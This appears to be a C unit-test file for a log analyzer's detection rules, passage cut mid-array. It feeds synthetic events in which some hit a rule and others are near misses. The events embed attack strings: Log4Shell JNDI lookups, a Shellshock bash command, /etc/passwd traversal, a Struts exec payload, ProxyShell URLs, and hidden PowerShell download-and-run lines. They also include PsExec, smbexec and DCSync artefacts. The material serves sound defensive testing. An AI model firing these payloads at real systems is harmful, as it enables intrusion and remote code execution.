/*
 * Tests of the match analyzer (src/analyzers/match.c) with the shipped
 * rules: every rule in rules/ fires on an event made for it and stays
 * quiet on a near miss.  The rule set is the real one (the .rules files
 * of rules/) plus a test profile and suppressions
 * (tests/data/rules/match-profile.rules), loaded through config_load as
 * the daemon does.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "config.h"
#include "event/logevent.h"
#include "analyzers/analyzer.h"
#include "analyzers/finding.h"
#include "analyzers/match.h"
#include "rules/prefilter.h"
#include "rules/profile.h"
#include "rules/rule.h"
#include "rules/ruleset.h"
#include "testtmp.h"
#include "testmain.h"

#define MAXF	12

struct mcase {
	const char	*name;
	enum source_kind src;
	const char	*f[MAXF];	/* "field=value"; "@time=ms" */
	const char	*expect;	/* rule ids that fire, sorted */
};

static struct config	*cfg;
static void		*an;
static char		 fired[1024];
static char		 reason[1024];
static int		 ahead;		/* run() prefetches first */

static void
collect(void *arg, const struct finding *f)
{
	size_t	 n = strlen(fired);

	(void)arg;
	snprintf(fired + n, sizeof(fired) - n, "%s%s", n ? " " : "",
	    f->rule->id);
	if (f->reason != NULL)
		snprintf(reason, sizeof(reason), "%s", f->reason);
}

/* text in a new temporary file, whose name goes into path. */
static void
write_tmp(char *path, size_t size, const char *text)
{
	FILE	*fp;
	int	 fd;

	test_tmpl(path, size, "check_match");
	ck_assert_int_ne(fd = mkstemp(path), -1);
	ck_assert_ptr_nonnull(fp = fdopen(fd, "w"));
	fputs(text, fp);
	fclose(fp);
}

/* A configuration from text, loaded through config_load. */
static struct config *
config_text(const char *text)
{
	struct cerrors		 errs = { 0 };
	struct config		*c;
	char			 path[4096];

	write_tmp(path, sizeof(path), text);
	c = config_load(path, &errs);
	unlink(path);
	cerrors_print(&errs);
	ck_assert_ptr_nonnull(c);
	cerrors_clear(&errs);
	return c;
}

/* A rule set from text, and the analyzer on it. */
static void
load_text(const char *text)
{
	struct emitter		 em = { collect, NULL };
	struct analyzer_env	 env = { "/nonexistent", 1, NULL,
	    ANALYZER_TIER_ALL,
	    { NULL, NULL } };

	cfg = config_text(text);
	ck_assert_ptr_nonnull(an = analyzer_match.new(cfg->rs, &em, &env));
}

/* The shipped rules, with the test profile and suppressions or not. */
static void
load(int test_profile)
{
	char	 text[16384];

	snprintf(text, sizeof(text), "ruleset \"test\"\n"
	    "include \"%s/../rules/*.rules\"\n", TEST_SRCDIR);
	if (test_profile)
		snprintf(text + strlen(text), sizeof(text) - strlen(text),
		    "include \"%s/data/rules/match-profile.rules\"\n",
		    TEST_SRCDIR);
	load_text(text);
}

static void
setup(void)
{
	load(1);
}

static void
teardown(void)
{
	analyzer_match.free(an);
	config_free(cfg);
}

static void
set_field(struct logevent *ev, const char *spec)
{
	const struct field_def	*fd;
	const char		*eq = strchr(spec, '=');
	char			 name[64];
	struct slice		 s;
	int32_t			 i32;
	int64_t			 i64;

	ck_assert_ptr_nonnull(eq);
	ck_assert_uint_lt((size_t)(eq - spec), sizeof(name));
	memcpy(name, spec, eq - spec);
	name[eq - spec] = '\0';
	if (strcmp(name, "@time") == 0) {
		ev->time_ms = strtoll(eq + 1, NULL, 10);
		return;
	}
	ck_assert_msg((fd = field_lookup(name)) != NULL, "field %s", name);
	switch (fd->type) {
	case FIELD_STR:
		s.p = eq + 1;
		s.len = strlen(eq + 1);
		memcpy((char *)ev + fd->off, &s, sizeof(s));
		break;
	case FIELD_INT:
		i32 = (int32_t)strtol(eq + 1, NULL, 10);
		memcpy((char *)ev + fd->off, &i32, sizeof(i32));
		break;
	case FIELD_INT64:
		i64 = strtoll(eq + 1, NULL, 10);
		memcpy((char *)ev + fd->off, &i64, sizeof(i64));
		break;
	}
}

static const char *
run(const struct mcase *c)
{
	struct logevent	 ev;
	size_t		 i;

	memset(&ev, 0, sizeof(ev));
	logevent_reset(&ev);
	ev.source = c->src;
	ev.time_ms = 1773136800000LL;		/* 2026-03-10 */
	ev.format = "test";
	ev.file = "-";
	for (i = 0; i < MAXF && c->f[i] != NULL; i++)
		set_field(&ev, c->f[i]);
	fired[0] = '\0';
	reason[0] = '\0';
	if (ahead) {
		analyzer_match.prefetch(an, &ev, 0);
		analyzer_match.prefetch(an, &ev, 1);
	}
	analyzer_match.process(an, &ev);
	logevent_free(&ev);
	return fired;
}

/* Outside every test profile: only the default profile applies. */
#define OUT	"source.ip=10.99.0.1"
/* In profile test-hq. */
#define HQ	"source.ip=10.30.1.5"
#define GET	"http.request.method=GET"

static const struct mcase cases[] = {
	/* Known attack: indicator lists. */
	{ "c2 domain", SRC_PROXY, { OUT, GET,
	    "destination.domain=a.update-check.badcdn.example",
	    "url.original=http://a.update-check.badcdn.example/",
	    "destination.port=80" }, "1000001" },
	{ "c2 parent domain", SRC_PROXY, { OUT, GET,
	    "destination.domain=badcdn.example", "destination.port=80" }, "" },
	{ "delivery domain", SRC_PROXY, { OUT, GET,
	    "destination.domain=files.payload-host.test" }, "1000002" },
	{ "malware url", SRC_PROXY, { OUT, GET,
	    "url.original=http://DL.payload-host.test:80/stage2/loader.bin",
	    "destination.domain=dl.payload-host.test" }, "1000003" },
	{ "malware url near", SRC_PROXY, { OUT, GET,
	    "url.original=http://dl.payload-host.test/stage2/loader.bin2",
	    "destination.domain=dl.payload-host.test" }, "" },
	{ "c2 ip", SRC_FIREWALL, { OUT, "destination.ip=192.0.2.66",
	    "destination.port=443" }, "1000004" },
	{ "c2 ip6", SRC_FIREWALL, { OUT, "destination.ip=2001:db8:66::9",
	    "destination.port=443" }, "1000004" },
	{ "c2 ip near", SRC_FIREWALL, { OUT, "destination.ip=192.0.2.67",
	    "destination.port=443" }, "" },
	{ "c2 dns", SRC_DNS, { OUT,
	    "dns.question.name=WWW.update-check.badcdn.example" }, "1000005" },
	{ "c2 dns near", SRC_DNS, { OUT,
	    "dns.question.name=update-check.badcdn.example.com" }, "" },
	{ "hash", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.executable=C:\\Users\\bob\\x.exe",
	    "process.hash=SHA1=0000000000000000000000000000000000000000,"
	    "MD5=5F4DCC3B5AA765D61D8327DEB882CF99" }, "1000006" },
	{ "hash near", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.hash=MD5=5F4DCC3B5AA765D61D8327DEB882CF98" }, "" },
	{ "user agent", SRC_PROXY, { OUT, GET, "user_agent.original="
	    "sqlmap/1.7.2#stable (https://sqlmap.org)" }, "1000007" },
	{ "user agent near", SRC_PROXY, { OUT, GET, "user_agent.original="
	    "sqlmap/1.7.3#stable (https://sqlmap.org)" }, "" },

	/* PsExec inside the LAN. */
	/* DCSync: replication rights used by a user account. */
	{ "dcsync by a user", SRC_AD, { "winlog.event_id=4662",
	    "user.name=pgustavo", "winlog.event_data.AccessMask=0x100",
	    "winlog.event_data.Properties=%%7688 "
	    "{1131f6AD-9c07-11d1-f79f-00c04fc2dcd2} "
	    "{19195a5b-6da0-11d0-afd3-00c04fd930c9}" }, "1000030" },
	{ "dcsync by a domain controller", SRC_AD, { "winlog.event_id=4662",
	    "user.name=MORDORDC$",
	    "winlog.event_data.Properties={1131f6aa-9c07-11d1-f79f-"
	    "00c04fc2dcd2}" }, "" },
	{ "4662 without replication rights", SRC_AD, {
	    "winlog.event_id=4662", "user.name=pgustavo",
	    "winlog.event_data.Properties={bf967aba-0de6-11d0-a285-"
	    "00aa003049e2}" }, "" },
	{ "psexec 5145 ipc", SRC_AD, { "winlog.event_id=5145",
	    "file.share=\\\\*\\IPC$",
	    "file.relative_target=PSEXESVC-WS2-1234-stdin" }, "1000010" },
	{ "psexec 5145 renamed", SRC_AD, { "winlog.event_id=5145",
	    "file.share=\\\\*\\IPC$",
	    "file.relative_target=updsvc-WS2-4711-stdout" }, "1000010" },
	{ "psexec 5145 admin", SRC_AD, { "winlog.event_id=5145",
	    "file.share=\\\\*\\ADMIN$",
	    "file.relative_target=PSEXESVC.exe" }, "1000010" },
	{ "5145 srvsvc", SRC_AD, { "winlog.event_id=5145",
	    "file.share=\\\\*\\IPC$", "file.relative_target=srvsvc" }, "" },
	{ "5145 other share", SRC_AD, { "winlog.event_id=5145",
	    "file.share=\\\\*\\C$", "file.relative_target=a-stdin" }, "" },
	{ "7045 psexesvc", SRC_AD, { "winlog.event_id=7045",
	    "service.name=PSEXESVC",
	    "service.image=%SystemRoot%\\PSEXESVC.exe" }, "1000011" },
	{ "4697 comspec", SRC_AD, { "winlog.event_id=4697",
	    "service.name=BTOBTO", "service.image=%COMSPEC% /Q /c echo dir "
	    "> \\\\127.0.0.1\\C$\\__output 2>&1" }, "1000011" },
	{ "7045 ordinary", SRC_AD, { "winlog.event_id=7045",
	    "service.name=Google Update", "service.image=\"C:\\Program Files"
	    "\\Google\\Update\\GoogleUpdate.exe\" /svc" }, "" },
	{ "svc bare cmd", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt" }, "1000011" },
	{ "svc bare cmd no ext", SRC_AD, { "winlog.event_id=4697",
	    "service.name=svc1",
	    "service.image=cmd /c net user" }, "1000011" },
	{ "svc quoted cmd", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=\"C:\\Windows\\System32\\cmd.exe\" /c start x" }, "1000011" },
	{ "svc cmd /q /c", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=C:\\Windows\\system32\\cmd.exe /Q /c echo a" }, "1000011" },
	{ "svc comspec lower", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=%comspec% /b /c start /b /min powershell -nop -w hidden" }, "1000011" },
	{ "svc systemroot powershell", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -c iex(x)" }, "1000011" },
	{ "svc pwsh bare", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=pwsh.exe -c \"iwr http://x\"" }, "1000011" },
	{ "svc rundll32", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=rundll32.exe C:\\Users\\Public\\a.dll,Start" }, "1000011" },
	{ "svc mshta quoted", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=\"mshta.exe\" vbscript:Close(Execute(\"x\"))" }, "1000011" },
	{ "svc regsvr32 path", SRC_AD, { "winlog.event_id=4697",
	    "service.name=svc1",
	    "service.image=C:\\Windows\\SysWOW64\\regsvr32.exe /s /u /i:http://x scrobj.dll" }, "1000011" },
	{ "svc script file", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=C:\\Windows\\System32\\update.bat" }, "1000011" },
	{ "svc vbs quoted", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=\"C:\\Scripts\\run me.vbs\"" }, "1000011" },
	{ "svc users appdata", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=\"C:\\Users\\bob\\AppData\\Local\\Temp\\svc.exe\"" }, "1000011" },
	{ "svc programdata", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=C:\\ProgramData\\updater\\upd.exe -k" }, "1000011" },
	{ "svc env temp", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=%TEMP%\\x64svc.exe" }, "1000011" },
	{ "svc windows temp", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=C:\\Windows\\Temp\\AbCdEfGh.exe" }, "1000011" },
	{ "svc windows root", SRC_AD, { "winlog.event_id=4697",
	    "service.name=svc1",
	    "service.image=%SystemRoot%\\kXbqLZhm.exe" }, "1000011" },
	{ "svc windows root drive", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=C:\\Windows\\rWJtOHNa.exe" }, "1000011" },
	{ "svc drive root", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=c:\\a.exe" }, "1000011" },
	{ "svc unc", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=\\\\10.0.0.5\\share\\beacon.exe" }, "1000011" },
	{ "svc perflogs", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=C:\\PerfLogs\\s.exe" }, "1000011" },
	{ "svc nt path users", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=\\??\\C:\\Users\\Public\\drv.sys" }, "1000011" },
	{ "svc svchost", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=%SystemRoot%\\system32\\svchost.exe -k netsvcs -p" }, "" },
	{ "svc svchost full", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted" }, "" },
	{ "svc program files", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=\"C:\\Program Files\\Mozilla Maintenance Service\\maintenanceservice.exe\"" }, "" },
	{ "svc program files x86", SRC_AD, { "winlog.event_id=4697",
	    "service.name=svc1",
	    "service.image=\"C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\armsvc.exe\"" }, "" },
	{ "svc driver", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=\\SystemRoot\\System32\\drivers\\vboxsf.sys" }, "" },
	{ "svc driver relative", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=system32\\DRIVERS\\WdFilter.sys" }, "" },
	{ "svc defender", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MsMpEng.exe\"" }, "" },
	{ "svc msiexec", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=%systemroot%\\system32\\msiexec.exe /V" }, "" },
	{ "svc program files cmd in name", SRC_AD, { "winlog.event_id=7045",
	    "service.name=svc1",
	    "service.image=\"C:\\Program Files\\CmdAgent\\cmdagent.exe\" -service" }, "" },
	{ "svc other event", SRC_AD, { "winlog.event_id=7040",
	    "service.name=svc1",
	    "service.image=cmd.exe /c whoami" }, "" },
	{ "scm cmd hidden ps", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.parent.executable=C:\\Windows\\System32\\services.exe",
	    "process.executable=C:\\Windows\\System32\\cmd.exe",
	    "process.command_line=C:\\Windows\\system32\\cmd.exe /b /c start /b /min powershell.exe -nop -w hidden -noni -c \"iex(iwr http://x)\"" }, "1000015" },
	{ "scm cmd encoded ps", SRC_AD, { "winlog.event_id=4688",
	    "process.parent.executable=C:\\Windows\\System32\\services.exe",
	    "process.executable=C:\\Windows\\System32\\cmd.exe",
	    "process.command_line=cmd.exe /c powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA" }, "1000015" },
	{ "wmi ps windowstyle", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.parent.executable=C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
	    "process.executable=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	    "process.command_line=powershell.exe -NoP -NonI -WindowStyle Hidden -Command x" }, "1000015" },
	{ "wmi ps slash ec", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.parent.executable=C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
	    "process.executable=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	    "process.command_line=powershell /ec SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA" }, "1000015" },
	{ "wmi cmd ps w 1", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.parent.executable=C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
	    "process.executable=C:\\Windows\\System32\\cmd.exe",
	    "process.command_line=cmd.exe /Q /c powershell -W 1 -c x 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1" }, "1000015 1000016" },
	{ "wmi pwsh encodedcommand", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.parent.executable=C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
	    "process.executable=C:\\Program Files\\PowerShell\\7\\pwsh.exe",
	    "process.command_line=pwsh -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA" }, "1000015" },
	{ "wmi ps en dash", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.parent.executable=C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
	    "process.executable=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	    "process.command_line=powershell \xe2\x80\x93nop \xe2\x80\x93wi hid "
	    "-c x" }, "1000015" },
	{ "scm ps execution policy", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.parent.executable=C:\\Windows\\System32\\services.exe",
	    "process.executable=C:\\Windows\\System32\\cmd.exe",
	    "process.command_line=cmd /c powershell -ExecutionPolicy Bypass -File C:\\Scripts\\inv.ps1" }, "" },
	{ "explorer ps hidden", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.parent.executable=C:\\Windows\\explorer.exe",
	    "process.executable=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	    "process.command_line=powershell -w hidden -c x" }, "" },
	{ "user cmd ps hidden", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.parent.executable=C:\\Windows\\System32\\cmd.exe",
	    "process.executable=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	    "process.command_line=powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA" }, "" },
	{ "scm ordinary", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.parent.executable=C:\\Windows\\System32\\services.exe",
	    "process.executable=C:\\Windows\\System32\\svchost.exe",
	    "process.command_line=C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule" }, "" },
	{ "wmi ps visible", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.parent.executable=C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
	    "process.executable=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	    "process.command_line=powershell.exe -NoProfile -Command Get-Service" }, "" },
	{ "wmi cmd no ps", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.parent.executable=C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
	    "process.executable=C:\\Windows\\System32\\cmd.exe",
	    "process.command_line=cmd.exe /c -w hidden dir" }, "" },
	{ "wmiexec output", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.parent.executable=C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
	    "process.executable=C:\\Windows\\System32\\cmd.exe",
	    "process.command_line=cmd.exe /Q /c whoami 1> "
	    "\\\\127.0.0.1\\ADMIN$\\__1700000000.51 2>&1" },
	    "1000016" },
	{ "smbexec output c$", SRC_AD, { "winlog.event_id=4688",
	    "process.executable=C:\\Windows\\System32\\cmd.exe",
	    "process.command_line=C:\\Windows\\system32\\cmd.exe /Q /c "
	    "echo ipconfig ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > "
	    "C:\\Windows\\TEMP\\execute.bat" }, "1000016" },
	{ "smbexec service", SRC_AD, { "winlog.event_id=7045",
	    "service.name=BTOBTO", "service.image=%COMSPEC% /Q /c echo dir "
	    "> \\\\127.0.0.1\\C$\\__output 2>&1" }, "1000011" },
	{ "output to ordinary share", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.executable=C:\\Windows\\System32\\cmd.exe",
	    "process.command_line=cmd /c dir > \\\\fs01\\reports\\dir.txt" },
	    "" },
	{ "output to local file", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.executable=C:\\Windows\\System32\\cmd.exe",
	    "process.command_line=cmd /c ipconfig > C:\\Temp\\ip.txt" },
	    "" },
	{ "sysmon psexesvc", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.parent.executable=C:\\Windows\\System32\\services.exe",
	    "process.executable=C:\\Windows\\PSEXESVC.exe" }, "1000012" },
	{ "sysmon psexesvc other parent", SRC_ENDPOINT, {
	    "winlog.event_id=1",
	    "process.parent.executable=C:\\Windows\\explorer.exe",
	    "process.executable=C:\\Windows\\PSEXESVC.exe" }, "" },
	{ "psexec source cmdline", SRC_AD, { "winlog.event_id=4688",
	    "process.executable=C:\\Windows\\System32\\cmd.exe",
	    "process.command_line=psexec.exe \\\\WS2 -s cmd.exe" },
	    "1000013" },
	{ "psexec source image", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.executable=C:\\Tools\\PsExec64.exe",
	    "process.command_line=PsExec64.exe -accepteula" }, "1000013" },
	{ "psexec source near", SRC_ENDPOINT, { "winlog.event_id=1",
	    "process.executable=C:\\Windows\\System32\\notepad.exe",
	    "process.command_line=notepad.exe psexec.txt" }, "" },
	{ "psexec pipe", SRC_ENDPOINT, { "winlog.event_id=17",
	    "file.pipe=\\PSEXESVC" }, "1000014" },
	{ "psexec pipe renamed", SRC_ENDPOINT, { "winlog.event_id=18",
	    "file.pipe=\\updsvc-WS1-4711-stderr" }, "1000014" },
	{ "pipe lsass", SRC_ENDPOINT, { "winlog.event_id=18",
	    "file.pipe=\\lsass" }, "" },

	/* Exploitation of known vulnerabilities. */
	{ "log4shell url", SRC_PROXY, { OUT, GET,
	    "url.original=http://app.example/?q=${jndi:ldap://e.example/a}" },
	    "1000020" },
	{ "log4shell ua", SRC_PROXY, { OUT, GET, "user_agent.original="
	    "${${lower:j}ndi:ldap://e.example/a}" }, "1000020" },
	{ "log4shell encoded", SRC_PROXY, { OUT, GET,
	    "url.original=http://app.example/?q=%24%7Bjndi:ldap://e/a%7D" },
	    "1000020" },
	{ "log4shell near", SRC_PROXY, { OUT, GET,
	    "url.original=http://app.example/?q=$jndi" }, "" },
	{ "shellshock", SRC_PROXY, { OUT, GET,
	    "user_agent.original=() { :; }; /bin/bash -c id" }, "1000021" },
	{ "shellshock near", SRC_PROXY, { OUT, GET,
	    "user_agent.original=Mozilla/5.0 (compatible) {x}" }, "" },
	{ "traversal", SRC_PROXY, { OUT, GET, "url.original="
	    "http://web.example/cgi-bin/.%2e/.%2e/.%2e/etc/passwd" },
	    "1000022" },
	{ "traversal near", SRC_PROXY, { OUT, GET,
	    "url.original=http://web.example/a..b/c" }, "" },
	{ "struts", SRC_PROXY, { OUT, GET, "url.original=http://web.example/"
	    "index.action?redirect:${#context['xwork.MethodAccessor.deny']="
	    "false,@java.lang.Runtime@getRuntime().exec('id')}" },
	    "1000023" },
	{ "struts near", SRC_PROXY, { OUT, GET,
	    "url.original=http://web.example/index.action?id=1" }, "" },
	{ "proxyshell", SRC_PROXY, { OUT, GET, "url.original="
	    "https://mail.example/autodiscover/autodiscover.json?@evil.example"
	    "/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil" },
	    "1000024" },
	{ "proxyshell near", SRC_PROXY, { OUT, GET, "url.original="
	    "https://mail.example/autodiscover/autodiscover.json?Protocol=A" },
	    "" },

	/* Not normal business, profile test-hq. */
	{ "country", SRC_PROXY, { HQ, GET, "destination.ip=203.0.113.9",
	    "destination.domain=cn.example", "destination.port=443" },
	    "1000101" },
	{ "country usual", SRC_PROXY, { HQ, GET, "destination.ip=192.0.2.9",
	    "destination.domain=jp.example", "destination.port=443" }, "" },
	{ "country unknown", SRC_PROXY, { HQ, GET,
	    "destination.ip=100.64.0.1", "destination.domain=x.example",
	    "destination.port=443" }, "" },
	{ "internal service", SRC_FIREWALL, { HQ, "destination.ip=10.1.0.20",
	    "destination.port=3389" }, "1000102 1000105" },
	{ "internal service usual", SRC_FIREWALL, { HQ,
	    "destination.ip=10.1.0.20", "destination.port=445" },
	    "1000105" },
	{ "internal web usual", SRC_FIREWALL, { HQ,
	    "destination.ip=10.1.0.7", "destination.port=80" }, "" },
	{ "application ua", SRC_PROXY, { HQ, GET,
	    "destination.domain=x.example", "user_agent.original=curl/8.0" },
	    "1000103" },
	{ "application ua usual", SRC_PROXY, { HQ, GET,
	    "destination.domain=x.example", "user_agent.original=Mozilla/5.0 "
	    "(Windows NT 10.0; Win64; x64) AppleWebKit/537.36" }, "" },
	{ "application process", SRC_ENDPOINT, { HQ, "winlog.event_id=4688",
	    "process.executable=C:\\Users\\bob\\AppData\\Local\\t.exe" },
	    "1000103" },
	{ "application process usual", SRC_ENDPOINT, { HQ,
	    "winlog.event_id=4688",
	    "process.executable=c:\\windows\\system32\\cmd.exe" }, "" },
	{ "category", SRC_PROXY, { HQ, GET, "destination.domain=x.example",
	    "url.category=Gambling" }, "1000104" },
	{ "category usual", SRC_PROXY, { HQ, GET,
	    "destination.domain=x.example", "url.category=News" }, "" },
	{ "category from list", SRC_PROXY, { HQ, GET,
	    "destination.domain=www.casino.example.net" }, "1000104" },
	{ "category from list usual", SRC_PROXY, { HQ, GET,
	    "destination.domain=news.example.org" }, "" },
	{ "port", SRC_FIREWALL, { HQ, "destination.ip=198.51.100.7",
	    "destination.port=6667" }, "1000105" },
	{ "port usual", SRC_FIREWALL, { HQ, "destination.ip=198.51.100.7",
	    "destination.port=8080" }, "" },
	{ "raw ip", SRC_PROXY, { HQ, GET, "destination.ip=198.51.100.7",
	    "url.original=http://198.51.100.7/a.php", "destination.port=80" },
	    "1000106" },
	{ "raw ip internal", SRC_PROXY, { HQ, GET, "destination.ip=10.1.0.5",
	    "url.original=http://10.1.0.5/", "destination.port=80" }, "" },
	{ "named host", SRC_PROXY, { HQ, GET, "destination.ip=198.51.100.7",
	    "destination.domain=www.example.com",
	    "url.original=http://www.example.com/", "destination.port=80" },
	    "" },
	{ "connect port", SRC_PROXY, { HQ, "http.request.method=CONNECT",
	    "destination.domain=x.example", "destination.port=4444" },
	    "1000107" },
	{ "connect port usual", SRC_PROXY, { HQ,
	    "http.request.method=CONNECT", "destination.domain=x.example",
	    "destination.port=8443" }, "" },
	{ "connect port default profile", SRC_PROXY, { OUT,
	    "http.request.method=CONNECT", "destination.domain=x.example",
	    "destination.port=8443" }, "1000107" },
	{ "connect 443 default profile", SRC_PROXY, { OUT,
	    "http.request.method=CONNECT", "destination.domain=x.example",
	    "destination.port=443" }, "" },
	{ "exe download", SRC_PROXY, { HQ, GET,
	    "destination.domain=evil.example.net",
	    "url.original=http://evil.example.net/a/setup.EXE",
	    "url.path=/a/setup.EXE", "http.response.status_code=200" },
	    "1000108" },
	{ "exe download by type", SRC_PROXY, { HQ, GET,
	    "destination.domain=evil.example.net",
	    "url.original=http://evil.example.net/dl?id=4",
	    "url.path=/dl", "http.response.mime_type=application/x-msdownload",
	    "http.response.status_code=200" }, "1000108" },
	{ "exe download usual", SRC_PROXY, { HQ, GET,
	    "destination.domain=au.download.windowsupdate.com",
	    "url.path=/c/kb.exe", "http.response.status_code=200" }, "" },
	{ "exe download list", SRC_PROXY, { HQ, GET,
	    "destination.domain=downloads.vendor.example",
	    "url.path=/tool.msi", "http.response.status_code=200" }, "" },
	{ "exe download failed", SRC_PROXY, { HQ, GET,
	    "destination.domain=evil.example.net", "url.path=/a/setup.exe",
	    "http.response.status_code=404" }, "" },
	{ "upload type", SRC_PROXY, { HQ, "http.request.method=POST",
	    "destination.domain=files.example", "url.path=/upload/dump.7z",
	    "source.bytes=5000000" }, "1000109" },
	{ "upload type usual", SRC_PROXY, { HQ, "http.request.method=PUT",
	    "destination.domain=files.example", "url.path=/up/report.pdf",
	    "source.bytes=5000" }, "" },
	{ "query", SRC_PROXY, { HQ, GET,
	    "destination.domain=intranet.corp.example",
	    "url.original=http://intranet.corp.example/search?q=x'+or+1=1--",
	    "url.query=q=x'+or+1=1--" }, "1000110" },
	{ "query usual", SRC_PROXY, { HQ, GET,
	    "destination.domain=intranet.corp.example",
	    "url.original=http://Intranet.corp.example:80/search?q=hello",
	    "url.query=q=hello" }, "" },
	{ "query unknown url", SRC_PROXY, { HQ, GET,
	    "destination.domain=other.example",
	    "url.original=http://other.example/search?q=x'--",
	    "url.query=q=x'--" }, "" },

	/* IDS alerts (Suricata EVE): by severity, raised, ignored. */
	{ "ids severity 1", SRC_NETWORK, { "source.ip=10.1.2.3",
	    "destination.ip=203.0.113.9", "threat.signature_id=2027758",
	    "threat.severity=1", "threat.name=ET MALWARE x" }, "1000200" },
	{ "ids severity 2", SRC_NETWORK, { "source.ip=10.1.2.3",
	    "destination.ip=203.0.113.9", "threat.signature_id=2018358",
	    "threat.severity=2" }, "1000201" },
	{ "ids severity 3: a finding only", SRC_NETWORK, {
	    "source.ip=10.1.2.3", "destination.ip=203.0.113.9",
	    "threat.signature_id=2013000", "threat.severity=3" }, "1000202" },
	{ "ids raised", SRC_NETWORK, { "source.ip=10.1.2.3",
	    "destination.ip=203.0.113.9", "threat.signature_id=2100498",
	    "threat.severity=2" }, "1000203" },
	{ "ids ignored", SRC_NETWORK, { "source.ip=10.1.2.3",
	    "destination.ip=203.0.113.9", "threat.signature_id=2013028",
	    "threat.severity=1" }, "" },
	{ "not an ids alert: a severity without a signature", SRC_NETWORK, {
	    "source.ip=10.1.2.3", "threat.severity=1" }, "" },

	/* Deceptive file names. */
	{ "deceptive image runs", SRC_ENDPOINT, { "winlog.event_id=1",
	    "host.name=WS1", "process.executable=C:\\Users\\a\\Downloads\\"
	    "\xe8\xa6\x8b\xe7\xa9\x8d.xlsxs.exe" }, "1000210" },
	{ "ordinary image runs", SRC_ENDPOINT, { "winlog.event_id=1",
	    "host.name=WS1", "process.executable=C:\\Users\\a\\Downloads\\"
	    "setup.x64.exe" }, "" },
	{ "deceptive file written", SRC_ENDPOINT, { "winlog.event_id=11",
